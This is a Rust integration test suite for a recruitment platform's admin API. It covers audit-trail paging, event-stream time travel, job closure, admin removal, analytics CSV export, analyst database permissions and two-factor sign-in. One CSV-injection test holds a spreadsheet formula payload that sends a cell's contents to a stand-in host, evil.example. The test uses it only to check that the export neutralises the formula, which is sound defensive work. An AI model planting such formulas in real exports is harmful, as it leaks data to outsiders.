//! The admin workspace's API over real HTTP and PostgreSQL: the audit trail
//! (filters, keyset paging), time travel over a scripted history, the agency
//! closing a client's job, removing admins, the agency-wide lists, analytics
//! and its CSV, the overview, a rebuild's progress, and the analyst role.

use chrono::{DateTime, Duration, TimeZone, Utc};
use commands::jobs::{CloseJob, JobForm, PostJob, UpdateJob};
use commands::{Clock, Metadata};
use reqwest::StatusCode;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::fixtures::{ADMIN_PASSWORD, job_form};
use crate::support::TestApp;

fn at(day: u32, hour: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 10, day, hour, 0, 0).unwrap()
}

#[tokio::test]
async fn every_admin_read_needs_an_admin() {
    let app = TestApp::spawn().await;
    let candidate = app.candidate_token("nosy@example.com").await;
    let (_, _, employer) = app.employer("Curious Co", true).await;
    for path in [
        "/api/admin/overview",
        "/api/admin/events",
        "/api/admin/events/types",
        "/api/admin/streams/job-0190a8c2-1111-7000-8000-000000000000",
        "/api/admin/jobs",
        "/api/admin/applications",
        "/api/admin/analytics",
        "/api/admin/analytics/applications.csv",
        "/api/admin/admins",
    ] {
        assert_eq!(
            app.get(path, None).await.status,
            StatusCode::UNAUTHORIZED,
            "{path}"
        );
        for token in [&candidate, &employer] {
            assert_eq!(
                app.get(path, Some(token)).await.status,
                StatusCode::FORBIDDEN,
                "{path}"
            );
        }
    }
}

#[tokio::test]
async fn the_audit_trail_filters_and_pages_the_log_newest_first() {
    let app = TestApp::spawn().await;
    let (admin_id, admin) = app.admin_token().await;
    let (employer_id, _, _) = app.employer("Audited Pty Ltd", false).await;
    let approved = app
        .manage_employer(&admin, employer_id, "approve", json!({}))
        .await;
    assert_eq!(approved.status, StatusCode::OK);
    for i in 0..4 {
        app.add_location(&format!("Suburb {i}, NSW")).await;
    }

    // Keyset paging: pages of two, each older than the last, none repeated.
    let mut seen = Vec::new();
    let mut before: Option<i64> = None;
    loop {
        let path = match before {
            None => "/api/admin/events?limit=2".to_owned(),
            Some(b) => format!("/api/admin/events?limit=2&before={b}"),
        };
        let page = app
            .get(&path, Some(&admin))
            .await
            .assert_status(StatusCode::OK);
        let events = page.body["events"].as_array().unwrap();
        assert!(events.len() <= 2);
        seen.extend(events.iter().map(|e| e["position"].as_i64().unwrap()));
        match page.body["next_before"].as_i64() {
            Some(b) => before = Some(b),
            None => break,
        }
    }
    assert_eq!(seen.len() as i64, app.event_count().await);
    assert!(
        seen.windows(2).all(|w| w[0] > w[1]),
        "newest first: {seen:?}"
    );

    // By type, by stream, by actor (the approving admin, with a name: read
    // from the accounts read model, so let it catch up first).
    app.settle().await;
    let by_type = app
        .get("/api/admin/events?type=EmployerApproved", Some(&admin))
        .await;
    let events = by_type.body["events"].as_array().unwrap();
    assert_eq!(events.len(), 1);
    let approval = &events[0];
    assert_eq!(approval["stream_id"], format!("account-{employer_id}"));
    assert_eq!(approval["actor_id"], admin_id.to_string());
    assert_eq!(approval["actor_name"], "Ada Admin");
    // Read as a sentence with names, not ids.
    assert_eq!(approval["summary"], "Ada Admin approved Audited Pty Ltd");
    assert_eq!(approval["actor_role"], "admin");
    assert!(approval["request_id"].is_string() && approval["correlation_id"].is_string());

    let stream = app
        .get(
            &format!("/api/admin/events?stream=account-{employer_id}"),
            Some(&admin),
        )
        .await;
    let types: Vec<&str> = stream
        .list("events")
        .iter()
        .map(|e| e["event_type"].as_str().unwrap())
        .collect();
    assert_eq!(types, vec!["EmployerApproved", "AccountRegistered"]);
    // Personal fields arrive decrypted for staff.
    let registered = &stream.body["events"][1]["payload"];
    assert_eq!(registered["name"], "Morgan Reid");
    // Secrets are never shown, not even to staff.
    assert_eq!(registered["password_hash"], "[secret]");
    assert!(!stream.body.to_string().contains("$argon2"));

    let by_actor = app
        .get(&format!("/api/admin/events?actor={admin_id}"), Some(&admin))
        .await;
    let types: Vec<&str> = by_actor
        .list("events")
        .iter()
        .map(|e| e["event_type"].as_str().unwrap())
        .collect();
    // Newest first: the approval, and the recovery code the admin signed in with.
    assert_eq!(types, vec!["EmployerApproved", "RecoveryCodeUsed"]);

    // A time range pages in time order, every event once.
    let mut timed = Vec::new();
    let mut cursor = String::new();
    loop {
        let page = app
            .get(
                &format!("/api/admin/events?from=2000-01-01T00:00:00Z&limit=3{cursor}"),
                Some(&admin),
            )
            .await
            .assert_status(StatusCode::OK);
        for e in page.body["events"].as_array().unwrap() {
            timed.push((
                DateTime::parse_from_rfc3339(e["recorded_at"].as_str().unwrap()).unwrap(),
                e["position"].as_i64().unwrap(),
            ));
        }
        match page.body["next_before"].as_i64() {
            Some(b) => cursor = format!("&before={b}"),
            None => break,
        }
    }
    assert_eq!(timed.len(), seen.len());
    let mut sorted = timed.clone();
    sorted.sort_by(|a, b| b.cmp(a));
    assert_eq!(timed, sorted, "newest first by time");

    let future = app
        .get("/api/admin/events?from=2999-01-01T00:00:00Z", Some(&admin))
        .await;
    assert_eq!(future.body["events"], json!([]));
    assert_eq!(future.body["next_before"], Value::Null);

    for (query, message) in [
        ("actor=someone", "Filter by a valid account id"),
        ("from=yesterday", "Enter a valid date and time"),
        ("limit=0", "Limit must be between 1 and 200"),
        ("limit=201", "Limit must be between 1 and 200"),
    ] {
        let bad = app
            .get(&format!("/api/admin/events?{query}"), Some(&admin))
            .await;
        bad.assert_error(StatusCode::UNPROCESSABLE_ENTITY, message);
    }

    let types = app.get("/api/admin/events/types", Some(&admin)).await;
    let types = types.body["types"].as_array().unwrap();
    assert!(types.contains(&json!("JobClosedByAgency")) && types.contains(&json!("AdminRemoved")));
}

#[tokio::test]
async fn time_travel_shows_a_job_as_it_was_and_what_changed() {
    let app = TestApp::spawn().await;
    let (_, admin) = app.admin_token().await;
    let location = app.add_location("Parramatta, NSW").await;
    let (employer_id, _, _) = app.employer("Time Co", true).await;
    // A scripted history on a pinned clock: posted on the 1st, retitled on
    // the 5th, closed on the 9th.
    let mut commands = app.app.state.commands.clone();
    let form = |title: &str| JobForm {
        title: title.into(),
        location_id: location,
        job_type: "Full-time".into(),
        specialisation: "Development + Testing".into(),
        salary: Some("$150k".into()),
        description: "Build things.".into(),
        responsibilities: vec!["Build".into()],
        requirements: vec![],
        ..JobForm::default()
    };
    let meta = || Metadata::system(event_store::Actor::Test);
    commands.clock = Clock::Fixed(at(1, 9));
    let job_id = commands
        .post_job(
            PostJob {
                employer_id,
                form: form("Rust Engineer"),
                draft: false,
            },
            meta(),
        )
        .await
        .unwrap()
        .output;
    commands.clock = Clock::Fixed(at(5, 9));
    commands
        .update_job(
            UpdateJob {
                employer_id,
                job_id,
                form: form("Senior Rust Engineer"),
            },
            meta(),
        )
        .await
        .unwrap();
    commands.clock = Clock::Fixed(at(9, 9));
    commands
        .close_job(
            CloseJob {
                employer_id,
                job_id,
            },
            meta(),
        )
        .await
        .unwrap();
    let stream = format!("job-{job_id}");
    app.settle().await;

    let history = app
        .get(&format!("/api/admin/streams/{stream}"), Some(&admin))
        .await;
    assert_eq!(history.body["kind"], "job");
    // headed by what it is, not by its id
    assert_eq!(history.body["name"], "Senior Rust Engineer");
    let recorded: Vec<&str> = history
        .list("events")
        .iter()
        .map(|e| e["recorded_at"].as_str().unwrap())
        .collect();
    assert_eq!(recorded.len(), 3);
    assert!(
        recorded[0].starts_with("2026-10-01T09:00:00"),
        "{recorded:?}"
    );

    let state_at = |t: DateTime<Utc>| {
        let url = format!(
            "/api/admin/streams/{stream}/state?at={}",
            urlencode(&t.to_rfc3339())
        );
        let app = &app;
        let admin = admin.clone();
        async move { app.get(&url, Some(&admin)).await }
    };
    let before = state_at(at(1, 8)).await;
    assert_eq!(
        (before.body["version"].clone(), before.body["state"].clone()),
        (json!(0), Value::Null)
    );
    let first = state_at(at(3, 0)).await;
    assert_eq!(first.body["version"], 1);
    assert_eq!(first.body["state"]["title"], "Rust Engineer");
    assert_eq!(first.body["state"]["open"], true);
    let later = state_at(at(6, 0)).await;
    assert_eq!(later.body["state"]["title"], "Senior Rust Engineer");
    assert_eq!(later.body["state"]["open"], true);
    let last = state_at(at(20, 0)).await;
    assert_eq!(
        (
            last.body["version"].clone(),
            last.body["state"]["open"].clone()
        ),
        (json!(3), json!(false))
    );

    let diff = app
        .get(
            &format!(
                "/api/admin/streams/{stream}/diff?from={}&to={}",
                urlencode(&at(3, 0).to_rfc3339()),
                urlencode(&at(20, 0).to_rfc3339())
            ),
            Some(&admin),
        )
        .await
        .assert_status(StatusCode::OK);
    let changes = diff.body["changes"].as_array().unwrap();
    let find = |path: &str| changes.iter().find(|c| c["path"] == path).cloned();
    assert_eq!(
        find("/title"),
        Some(
            json!({"op": "replace", "path": "/title", "from_value": "Rust Engineer", "value": "Senior Rust Engineer"})
        )
    );
    assert_eq!(
        find("/open"),
        Some(json!({"op": "replace", "path": "/open", "from_value": true, "value": false}))
    );

    // What cannot be answered says so.
    let unknown = app
        .get(
            "/api/admin/streams/job-00000000-0000-7000-8000-000000000000",
            Some(&admin),
        )
        .await;
    unknown.assert_error(StatusCode::NOT_FOUND, "Stream not found");
    let no_time = app
        .get(
            &format!("/api/admin/streams/{stream}/state?at=soon"),
            Some(&admin),
        )
        .await;
    no_time.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "Enter a valid date and time",
    );
    let reference = app
        .get("/api/admin/events?type=LocationAdded&limit=1", Some(&admin))
        .await;
    let reference_stream = reference.body["events"][0]["stream_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let unsupported = app
        .get(
            &format!("/api/admin/streams/{reference_stream}/state?at=2030-01-01T00:00:00Z"),
            Some(&admin),
        )
        .await;
    unsupported.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "Time travel is not available for this kind of stream",
    );
}

fn urlencode(s: &str) -> String {
    s.replace('+', "%2B").replace(':', "%3A")
}

#[tokio::test]
async fn the_agency_closes_a_clients_job_with_a_reason_the_employer_sees() {
    let app = TestApp::spawn().await;
    let (_, admin) = app.admin_token().await;
    let (job, employer) = app.open_job("Crypto Evangelist").await;
    let path = format!("/api/admin/jobs/{job}/close");

    let no_reason = app.post(&path, Some(&admin), json!({"reason": "  "})).await;
    no_reason.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "Please give a reason");
    let by_employer = app
        .post(&path, Some(&employer), json!({"reason": "x"}))
        .await;
    assert_eq!(by_employer.status, StatusCode::FORBIDDEN);
    let events_before = app.event_count().await;

    let closed = app
        .post(&path, Some(&admin), json!({"reason": "Misleading salary"}))
        .await;
    closed.assert_message(StatusCode::OK, "Job closed");
    assert_eq!(app.event_count().await, events_before + 1);
    let again = app
        .post(&path, Some(&admin), json!({"reason": "Again"}))
        .await;
    again.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "This job is already closed",
    );
    assert_eq!(app.event_count().await, events_before + 1);

    let mine = app
        .get_after("/api/employer/jobs", Some(&employer), &closed)
        .await;
    let listing = mine.find_id(&job).unwrap().clone();
    assert_eq!(listing["status"], "closed");
    assert_eq!(listing["closed_by_agency"], "Misleading salary");
    let reopen = app.job_action(&employer, &job, "reopen").await;
    reopen.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "The agency closed this job. Please contact us to reopen it.",
    );
    // The public page does not carry the agency's reason.
    let public = app.get(&format!("/api/jobs/{job}"), None).await;
    assert!(!public.body.to_string().contains("Misleading salary"));

    let all = app.get("/api/admin/jobs?status=closed", Some(&admin)).await;
    let row = all.find_id(&job).unwrap().clone();
    assert_eq!(
        (
            row["closed_reason"].clone(),
            row["closed_by_agency"].clone()
        ),
        (json!("Misleading salary"), json!(true))
    );
    let bad = app.get("/api/admin/jobs?status=gone", Some(&admin)).await;
    bad.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "Status must be draft, open or closed",
    );
    // The employer is told by mail, with the reason.
    let (subject, body): (String, String) = sqlx::query_as(
        "SELECT subject, body FROM mail_outbox WHERE subject LIKE 'We have closed your listing%'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert!(subject.contains("Crypto Evangelist") && body.contains("Misleading salary"));
}

#[tokio::test]
async fn admins_remove_each_other_but_not_themselves_or_the_last_one() {
    let app = TestApp::spawn().await;
    let (me, token) = app.admin_token().await;
    // The admin list is a read model: wait for it to hold the new account.
    app.settle().await;
    let alone = app.get("/api/admin/admins", Some(&token)).await;
    assert_eq!(alone.array().len(), 1);
    assert_eq!(alone.body[0]["is_you"], true);
    let myself = app
        .delete(&format!("/api/admin/admins/{me}"), Some(&token))
        .await;
    myself.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "You cannot remove yourself",
    );

    let added = app
        .add_admin(
            &token,
            "Riley Staff",
            "riley@harbourit.test",
            ADMIN_PASSWORD,
        )
        .await;
    assert_eq!(added.status, StatusCode::CREATED);
    let riley: Uuid = added.body["id"].as_str().unwrap().parse().unwrap();
    app.settle().await;
    let riley_token = app
        .token("admin", "riley@harbourit.test", ADMIN_PASSWORD)
        .await;
    assert_eq!(
        app.get("/api/admin/admins", Some(&token))
            .await
            .array()
            .len(),
        2
    );

    let removed = app
        .delete(&format!("/api/admin/admins/{riley}"), Some(&token))
        .await;
    removed.assert_message(StatusCode::OK, "Admin removed");
    app.settle().await;
    // Their session ends and they cannot sign in again.
    let stale = app.get("/api/admin/overview", Some(&riley_token)).await;
    assert_eq!(stale.status, StatusCode::UNAUTHORIZED);
    let login = app
        .login("admin", "riley@harbourit.test", ADMIN_PASSWORD)
        .await;
    assert_eq!(login.status, StatusCode::UNAUTHORIZED);
    let gone = app
        .delete(&format!("/api/admin/admins/{riley}"), Some(&token))
        .await;
    gone.assert_error(StatusCode::NOT_FOUND, "Admin not found");
    // The removal names who did it.
    let event = app
        .get("/api/admin/events?type=AdminRemoved", Some(&token))
        .await;
    assert_eq!(event.body["events"][0]["actor_id"], me.to_string());
}

#[tokio::test]
async fn the_agency_sees_every_clients_applications_and_their_numbers() {
    let app = TestApp::spawn().await;
    let (_, admin) = app.admin_token().await;
    app.applied("Platform Engineer", "applicant@example.com")
        .await;

    let all = app.get("/api/admin/applications", Some(&admin)).await;
    let rows = all.array();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["job_title"], "Platform Engineer");
    assert_eq!(rows[0]["stage"], "new");
    assert_eq!(rows[0]["specialisation"], "Development + Testing");
    // Two candidates of one name are told apart by their email.
    assert_eq!(rows[0]["candidate_email"], "applicant@example.com");
    // An auditor follows one job to its applications.
    let job_id = rows[0]["job_id"].as_str().unwrap().to_owned();
    for (job, found) in [
        (job_id.as_str(), 1),
        ("0190a8c2-1111-7000-8000-000000000000", 0),
    ] {
        let rows = app
            .get(
                &format!("/api/admin/applications?job_id={job}"),
                Some(&admin),
            )
            .await;
        assert_eq!(rows.array().len(), found, "{job}");
    }
    let screening = app
        .get("/api/admin/applications?stage=screening", Some(&admin))
        .await;
    assert_eq!(screening.body, json!([]));
    // A specialisation is read as the board's label, in any case; the
    // application's job is in Development + Testing.
    for (specialisation, found) in [
        ("Development%20%2B%20Testing", 1),
        ("development%20%2B%20testing", 1),
        ("Digital", 0),
    ] {
        let rows = app
            .get(
                &format!("/api/admin/applications?specialisation={specialisation}"),
                Some(&admin),
            )
            .await;
        assert_eq!(rows.array().len(), found, "{specialisation}");
    }
    // Dates are Sydney days: from 10 or 11 am Sydney time the UTC date is a
    // day behind, and the range must still hold today's application.
    let today = Utc::now()
        .with_timezone(&chrono_tz::Australia::Sydney)
        .date_naive();
    let ranged = app
        .get(
            &format!("/api/admin/applications?from={today}&to={today}"),
            Some(&admin),
        )
        .await;
    assert_eq!(ranged.array().len(), 1);
    for (query, message) in [
        ("stage=limbo", "Choose a stage from the list"),
        (
            "specialisation=Gardening",
            "Choose a specialisation from the list",
        ),
        ("from=23/11/2026", "Enter dates as YYYY-MM-DD"),
        (
            "from=2026-12-01&to=2026-11-01",
            "The start date must be on or before the end date",
        ),
        ("employer_id=acme", "Choose an employer from the list"),
        ("job_id=platform", "That is not a job's id"),
    ] {
        let bad = app
            .get(&format!("/api/admin/applications?{query}"), Some(&admin))
            .await;
        bad.assert_error(StatusCode::UNPROCESSABLE_ENTITY, message);
    }

    let numbers = app
        .get("/api/admin/analytics", Some(&admin))
        .await
        .assert_status(StatusCode::OK);
    assert_eq!(numbers.body["per_week"].as_array().unwrap().len(), 1);
    assert_eq!(numbers.body["per_week"][0]["applications"], 1);
    assert_eq!(
        numbers.body["funnel"][0],
        json!({"stage": "new", "count": 1})
    );
    assert_eq!(numbers.body["time_to_first_response"]["waiting"], 1);
    assert_eq!(
        numbers.body["by_employer"][0],
        json!({"name": "Hiring Co", "count": 1})
    );

    let csv = app
        .download("/api/admin/analytics/applications.csv", &admin)
        .await;
    assert_eq!(csv.status(), StatusCode::OK);
    assert!(
        csv.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert_eq!(csv.headers()["cache-control"], "private, no-store");
    assert_eq!(csv.headers()["x-content-type-options"], "nosniff");
    assert!(
        csv.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment; filename=\"applications.csv\"")
    );
    let text = csv.text().await.unwrap();
    let mut lines = text.lines();
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with(r#""application_id","job_id","job_title","employer","specialisation""#)
    );
    let row = lines.next().unwrap();
    assert!(row.contains("Platform Engineer"));
    // The specialisation is written as the board names it, not as an enum's name.
    assert!(row.contains(r#","Development + Testing","#), "{row}");
    assert!(!text.contains("applicant@example.com"), "nothing personal");
}

/// CSV injection (OWASP): a job title typed as a spreadsheet formula comes
/// out of the analytics CSV as text, with a leading `'` and in quotes.
#[tokio::test]
async fn the_analytics_csv_neutralises_a_title_a_spreadsheet_would_run_as_a_formula() {
    let app = TestApp::spawn().await;
    let (_, admin) = app.admin_token().await;
    let title = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open")"#;
    app.applied(title, "formula@example.com").await;

    let csv = app
        .download("/api/admin/analytics/applications.csv", &admin)
        .await;
    assert_eq!(csv.status(), StatusCode::OK);
    let text = csv.text().await.unwrap();
    assert!(
        text.contains(r#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")","#),
        "the cell is neutralised and quoted: {text}"
    );
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "job_title")
        .unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][column], format!("'{title}"));
    for cell in rows[0].iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would start a formula"
        );
    }
}

#[tokio::test]
async fn the_overview_counts_what_needs_attention_and_a_rebuild_reports_progress() {
    let app = TestApp::spawn().await;
    let (_, admin) = app.admin_token().await;
    app.employer("Waiting Pty Ltd", false).await;
    // An application raises notifications for both sides.
    app.applied("Platform Engineer", "applicant@example.com")
        .await;
    let sent = app
        .post(
            "/api/contact",
            None,
            json!({"firstName": "Ann", "lastName": "Lee", "email": "ann@example.com", "message": "Can you help us hire a Rust team?"}),
        )
        .await;
    assert_eq!(sent.status, StatusCode::OK);
    app.settle().await;
    let overview = app
        .get("/api/admin/overview", Some(&admin))
        .await
        .assert_status(StatusCode::OK);
    let attention = &overview.body["attention"];
    assert_eq!(attention["pending_employers"], 1);
    assert_eq!(attention["open_enquiries"], 1);
    assert_eq!(attention["unassigned_enquiries"], 1);
    assert_eq!(attention["projections_failing"], 0);
    let recent = overview.body["recent"].as_array().unwrap();
    assert_eq!(recent[0]["event_type"], "ContactMessageReceived");
    // What the agency acts on, not the plumbing: the notifications these
    // raised stay in the audit trail.
    assert!(app.events_of_type("NotificationRaised").await > 0);
    assert!(
        recent
            .iter()
            .all(|e| e["event_type"] != "NotificationRaised"),
        "{recent:?}"
    );
    assert_eq!(
        recent[0]["summary"],
        "Ann Lee sent an enquiry through the contact form"
    );

    let started = app
        .post(
            "/api/admin/projections/job_board/rebuild",
            Some(&admin),
            json!({}),
        )
        .await;
    assert_eq!(started.status, StatusCode::ACCEPTED);
    let mut finished = Value::Null;
    crate::support::until("the rebuild has finished", async || {
        let status = app.get("/api/admin/projections", Some(&admin)).await;
        finished = status.body["rebuild"].clone();
        finished["finished"] == true
    })
    .await;
    assert_eq!(finished["name"], "job_board");
    assert_eq!(finished["error"], Value::Null);
    assert_eq!(finished["done"], finished["total"]);
    let unknown = app
        .post(
            "/api/admin/projections/nothing/rebuild",
            Some(&admin),
            json!({}),
        )
        .await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
    let _ = Duration::zero();
}

/// docs/ANALYSTS.md's queries, run as `recruit_analyst`: they work, and the
/// role cannot read anything personal.
#[tokio::test]
async fn the_analyst_role_reads_the_documented_queries_and_nothing_personal() {
    let app = TestApp::spawn().await;
    app.applied("Data Engineer", "private.person@example.com")
        .await;
    let _ = job_form;

    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/ANALYSTS.md"))
        .unwrap();
    let queries: Vec<&str> = doc
        .split("```sql")
        .skip(1)
        .map(|block| block.split("```").next().unwrap().trim())
        .collect();
    assert!(queries.len() >= 4, "docs/ANALYSTS.md has example queries");
    let mut conn = app.pool.acquire().await.unwrap();
    sqlx::query("SET ROLE recruit_analyst")
        .execute(&mut *conn)
        .await
        .unwrap();
    for query in &queries {
        sqlx::query(sqlx::AssertSqlSafe(query.to_string()))
            .fetch_all(&mut *conn)
            .await
            .unwrap_or_else(|e| panic!("{query}\n{e}"));
    }
    // What the analytics CSV reads of applications, the analyst may read too.
    sqlx::query(
        "SELECT rejection_reason, rejected_from, stage_entered_at, first_response_at, hired_at,
                withdrawn_at FROM applications",
    )
    .fetch_all(&mut *conn)
    .await
    .expect("the CSV's columns are the analyst's");
    for personal in [
        "SELECT email FROM accounts",
        "SELECT name FROM accounts",
        "SELECT candidate_id FROM applications",
        "SELECT payload FROM events",
        "SELECT * FROM contact_messages",
        "SELECT * FROM candidate_profiles",
    ] {
        let refused = sqlx::query(personal).fetch_all(&mut *conn).await;
        assert!(refused.is_err(), "{personal} should be refused");
    }
    sqlx::query("RESET ROLE").execute(&mut *conn).await.unwrap();
}

#[tokio::test]
async fn an_admin_turns_on_two_factor_sign_in_and_each_code_works_once() {
    use commands::accounts::totp_generator;
    let app = TestApp::spawn().await;
    let (_, _) = app.admin_token().await;
    let email = "two.factor@harbourit.test";
    let (_, token) = app.admin_token().await;
    let added = app
        .add_admin(&token, "Tess Factor", email, ADMIN_PASSWORD)
        .await;
    assert_eq!(added.status, StatusCode::CREATED);
    let mine = app.token("admin", email, ADMIN_PASSWORD).await;
    let off = app.get("/api/admin/two-factor", Some(&mine)).await;
    assert_eq!(
        off.body,
        json!({"enabled": false, "recovery_codes_left": 0})
    );

    // A session alone does not set it up: the password again.
    app.post("/api/admin/two-factor/setup", Some(&mine), json!({}))
        .await
        .assert_error(
            StatusCode::UNPROCESSABLE_ENTITY,
            "Enter your password to confirm",
        );
    app.post(
        "/api/admin/two-factor/setup",
        Some(&mine),
        json!({"password": "Admin124!"}),
    )
    .await
    .assert_error(StatusCode::FORBIDDEN, "That password is incorrect");
    let setup = app
        .post(
            "/api/admin/two-factor/setup",
            Some(&mine),
            json!({"password": ADMIN_PASSWORD}),
        )
        .await
        .assert_status(StatusCode::OK);
    let secret = setup.body["secret"].as_str().unwrap().to_owned();
    assert!(
        setup.body["otpauth_url"]
            .as_str()
            .unwrap()
            .starts_with("otpauth://totp/")
    );
    assert!(setup.body["qr_svg"].as_str().unwrap().contains("<svg"));
    let totp = totp_generator(&secret, email).unwrap();
    let now = || Utc::now().timestamp() as u64;

    let wrong = app
        .post(
            "/api/admin/two-factor/confirm",
            Some(&mine),
            json!({"code": "000000"}),
        )
        .await;
    wrong.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "That code is not right. Check the time on your device and try again.",
    );
    let first_code = totp.generate(now()).to_string();
    let on = app
        .post(
            "/api/admin/two-factor/confirm",
            Some(&mine),
            json!({"code": first_code}),
        )
        .await
        .assert_status(StatusCode::OK);
    let recovery: Vec<String> = on
        .list("recovery_codes")
        .iter()
        .map(|c| c.as_str().unwrap().to_owned())
        .collect();
    assert_eq!(recovery.len(), 10);
    // The session carries on with a new token that passed the code; the
    // password-only one it had must step up before anything else.
    let before = mine;
    let mine = on.body["token"].as_str().unwrap().to_owned();
    app.settle().await;
    let stale = app.get("/api/admin/overview", Some(&before)).await;
    stale.assert_error(
        StatusCode::FORBIDDEN,
        "Confirm it's you: enter a code from your authenticator app.",
    );
    assert_eq!(stale.body["code"], "step_up_required");
    // Only hashes are stored.
    let stored = app
        .get("/api/admin/events?type=TotpEnabled", Some(&mine))
        .await;
    assert!(!stored.body.to_string().contains(&recovery[0]));

    // The password alone no longer signs in: it gives a challenge.
    let step_one = app.login("admin", email, ADMIN_PASSWORD).await;
    assert_eq!(step_one.status, StatusCode::OK);
    assert_eq!(step_one.body["two_factor_required"], true);
    assert!(step_one.body.get("token").is_none());
    let challenge = step_one.body["challenge"].as_str().unwrap().to_owned();
    // A challenge is not a session.
    app.get("/api/admin/overview", Some(&challenge))
        .await
        .assert_status(StatusCode::UNAUTHORIZED);
    let second = |code: String| {
        let challenge = challenge.clone();
        let app = &app;
        async move {
            app.post(
                "/api/auth/admin/login/two-factor",
                None,
                json!({"challenge": challenge, "code": code}),
            )
            .await
        }
    };
    // The code that confirmed the set-up is spent.
    let reused = second(first_code.clone()).await;
    reused.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "That code has already been used. Wait for the next one.",
    );
    // The next step's code (one step of drift is allowed) works, once.
    let next_code = totp.generate(now() + 30).to_string();
    let signed_in = second(next_code.clone())
        .await
        .assert_status(StatusCode::OK);
    let session = signed_in.body["token"].as_str().unwrap().to_owned();
    app.get("/api/admin/overview", Some(&session))
        .await
        .assert_status(StatusCode::OK);
    assert_eq!(
        second(next_code).await.status,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    // A recovery code works once, however it is typed.
    second(recovery[0].to_uppercase())
        .await
        .assert_status(StatusCode::OK);
    let again = second(recovery[0].clone()).await;
    again.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "That recovery code is not right, or it has already been used.",
    );
    let status = app.get("/api/admin/two-factor", Some(&session)).await;
    assert_eq!(
        status.body,
        json!({"enabled": true, "recovery_codes_left": 9})
    );
    let forged = app
        .post(
            "/api/auth/admin/login/two-factor",
            None,
            json!({"challenge": session, "code": "123456"}),
        )
        .await;
    forged.assert_error(
        StatusCode::UNAUTHORIZED,
        "Your sign-in has timed out. Please sign in again.",
    );
}
